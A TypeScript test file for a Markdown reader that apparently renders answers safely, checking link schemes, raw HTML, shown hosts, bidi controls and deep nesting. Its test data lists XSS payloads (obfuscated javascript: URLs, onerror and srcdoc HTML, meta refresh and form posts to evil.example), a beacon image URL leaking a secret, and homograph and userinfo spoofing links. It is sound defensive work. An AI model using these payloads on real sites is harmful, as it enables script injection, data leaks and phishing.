import { describe, expect, test } from 'bun:test'
import { readMarkdown } from './read-blocks.ts'
import type { Block, Inline } from './tree.ts'

/** Every inline of an answer, also those within others. */
function inlines(text: string): readonly Inline[] {
  return readMarkdown(text).flatMap(inBlock)
}

function inBlock(block: Block): readonly Inline[] {
  switch (block.kind) {
    case 'paragraph':
    case 'heading':
      return block.content.flatMap(within)
    case 'quote':
      return block.blocks.flatMap(inBlock)
    case 'list':
      return block.items.flatMap(({ blocks }) => blocks.flatMap(inBlock))
    case 'table':
      return [block.header, ...block.rows].flat(2).flatMap(within)
    case 'code':
    case 'rule':
    case 'verbatim':
      return []
  }
}

function within(inline: Inline): readonly Inline[] {
  return 'content' in inline ? [inline, ...inline.content.flatMap(within)] : [inline]
}

/** The addresses that an answer may lead to. */
function hrefs(text: string): readonly string[] {
  return inlines(text).flatMap((inline) =>
    (inline.kind === 'link' || inline.kind === 'picture') && inline.target ? [inline.target.href] : [],
  )
}

const evilTargets = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)'],
  ...[
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript&colon;alert(1)',
  ],
  ...['&#0000106avascript:alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', 'java&Tab;script:alert(1)'],
  ...['java\\script:alert(1)', 'jav%0aascript:alert(1)', 'javascript://example.org/%0aalert(1)'],
  ...[
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHN2Zz4=',
    'DATA:image/svg+xml,x',
  ],
  ...['file:///etc/passwd', 'blob:https://example.org/x', 'ftp://example.org/x', 'ws://example.org/x', 'about:blank'],
  ...[
    '//example.org/x',
    '/admin/keys',
    '#/keys',
    '?a=b',
    '../admin',
    '\\\\example.org\\x',
    'https:/\\example.org',
    'http:example.org',
  ],
  ...[
    'https://exa\u202emple.org',
    'https://exa\u200bmple.org',
    'https://',
    'mailto:?body=x',
    'view-source:https://a.b',
  ],
]

describe('a link that is no plain address of the web', () => {
  for (const target of evilTargets)
    for (const text of [
      `[a](${target})`,
      `[a](<${target}>)`,
      `![a](${target})`,
      `<${target}>`,
      `[a]: ${target}\n\n[a]`,
    ])
      test(JSON.stringify(text), () => expect(hrefs(text).filter((href) => !isHarmless(href))).toEqual([]))

  /** What the text itself names may be linked by the rule for bare addresses, if it is one. */
  function isHarmless(href: string): boolean {
    return /^(https?:\/\/[a-z.]+\/|mailto:[^?]+$)/.test(href) && !href.includes('alert')
  }
})

describe('what an answer may not do', () => {
  const html = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>@import "https://evil.example/x"</style>',
    '<a href="https://evil.example">x</a>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<math><mtext></p><img src=x></math>',
    '<form action="https://evil.example"><input></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<details open ontoggle=alert(1)>',
  ]
  for (const written of html)
    test(`${written} is text, word for word`, () => {
      for (const text of [written, `a ${written} b`, `- ${written}`, `> ${written}`, `**${written}**`]) {
        expect(textOf(text)).toContain('<')
        expect(inlines(text).filter(({ kind }) => kind === 'picture')).toEqual([])
      }
    })

  test('a picture is a description, and a link only if its address is one', () => {
    expect(inlines('![A *cat*](https://evil.example/beacon.png?secret=1 "t")')).toEqual([
      {
        kind: 'picture',
        description: 'A *cat*',
        target: { href: 'https://evil.example/beacon.png?secret=1', host: 'evil.example' },
      },
    ])
    expect(inlines('![x](data:image/svg+xml;base64,AAAA)')).toEqual([
      { kind: 'picture', description: 'x', target: undefined },
    ])
  })

  test('a picture within a link leads where the link leads', () => {
    expect(hrefs('[![x](https://a.example/p.png)](https://b.example/)')).toEqual(['https://b.example/'])
  })
})

describe('a link shows its host', () => {
  test.each([
    ['[https://bank.example](https://evil.example/)', 'evil.example'],
    ['[bank.example](https://evil.example/)', 'evil.example'],
    ['[here](https://example.org/a/b)', 'example.org'],
    ['https://bank.example@evil.example/', 'evil.example'],
    ['[https://bank.example](https://bank.example@evil.example/)', 'evil.example'],
    ['[аpple.com](https://аpple.com/)', 'xn--pple-43d.com'],
    ['[a@b.example](mailto:c@d.example)', 'c@d.example'],
    ['https://example.org/a?b=c', undefined],
    ['www.example.org', undefined],
    ['[https://example.org/x](https://example.org/y)', undefined],
    ['me@example.org', undefined],
  ])('%s', (text, host) => {
    const [link] = inlines(text).filter(({ kind }) => kind === 'link')
    expect(link).toMatchObject({ target: { host } })
  })

  test('and a mail address is all that a mail link has', () => {
    expect(hrefs('[a](mailto:a@b.example?subject=x&body=y)')).toEqual(['mailto:a@b.example'])
  })
})

describe('text', () => {
  test('that would turn the order of letters shows its controls, in code too', () => {
    const shown = inlines('a\u202eb `c\u2066d` [e\u202d](https://example.org)').filter(({ kind }) => kind === 'control')
    expect(shown).toEqual(['U+202E', 'U+2066', 'U+202D'].map((name) => ({ kind: 'control', name })))
  })

  test('has its character references decoded once, and only outside of code', () => {
    expect(textOf('&lt;b&gt; &amp;lt; &#38;amp; &#x1F600; &nope; &#0; `&lt;`')).toBe(
      '<b> &lt; &amp; 😀 &nope; \ufffd &lt;',
    )
  })

  test('that is nested without end is shown as it was written', () => {
    for (const text of [
      '> '.repeat(5_000),
      '>'.repeat(5_000),
      '['.repeat(5_000),
      '**a '.repeat(3_000),
      '- '.repeat(5_000),
    ])
      expect(depthOf(readMarkdown(`${text}x`))).toBeLessThan(80)
  })

  test('of 200,000 characters that is one block is shown, and not read', () => {
    expect(readMarkdown('a'.repeat(200_001))).toEqual([{ kind: 'verbatim', text: 'a'.repeat(200_001) }])
  })
})

test('lists, tasks, tables and code are read', () => {
  expect(readMarkdown('3. a\n4. b')).toMatchObject([{ kind: 'list', start: 3, items: [{}, {}] }])
  expect(readMarkdown('- [x] a\n- [ ] b\n- c')).toMatchObject([
    { kind: 'list', start: undefined, items: [{ isDone: true }, { isDone: false }, { isDone: undefined }] },
  ])
  expect(readMarkdown('| a | b |\n|:-:|--|\n| 1 <br> 2 | 3 |')).toMatchObject([
    { kind: 'table', align: ['center', undefined], rows: [[[{}, { kind: 'break' }, {}], [{ text: '3' }]]] },
  ])
  expect(readMarkdown('```ts\n<b>\n```')).toEqual([{ kind: 'code', language: 'ts', text: '<b>' }])
})

/** All the text that is shown. */
function textOf(text: string): string {
  const blocks = readMarkdown(text)
  const verbatim =
    JSON.stringify(blocks)
      .match(/"kind":"verbatim","text":"[\s\S]*?"/g)
      ?.join('') ?? ''
  return (
    inlines(text)
      .flatMap((inline) => ('text' in inline ? [inline.text] : []))
      .join('') + verbatim
  )
}

function depthOf(value: unknown): number {
  if (typeof value !== 'object' || value === null) return 0
  return 1 + Math.max(0, ...Object.values(value).map(depthOf))
}
